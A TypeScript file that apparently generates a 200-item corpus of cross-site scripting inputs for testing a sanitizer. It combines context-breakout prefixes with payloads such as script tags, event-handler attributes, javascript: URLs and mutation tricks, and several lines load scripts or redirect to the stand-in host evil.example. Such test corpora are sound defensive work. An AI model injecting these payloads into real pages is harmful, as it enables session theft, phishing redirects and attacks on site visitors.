/* Markup that strangers write where a page shows their words: each way out of a place, before each way to run something. */

/** Ways out of where a value may stand: text, attributes, and elements whose content is no markup. */
const waysOut = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</option></select>',
  '</style>',
  '-->',
  ']]>',
  '</svg></template>',
] as const

/** Ways to run, load or lead somewhere. */
const waysToAct = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<a href=javascript:alert(1) id=claim>here</a>',
  '<form action=//evil.example><button>Send</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '" onmouseover="alert(1)" style="position:fixed;inset:0" data-x="',
] as const

/** Two hundred texts. */
export const markup: readonly string[] = waysOut.flatMap(out => waysToAct.map(act => `${out}${act}`))
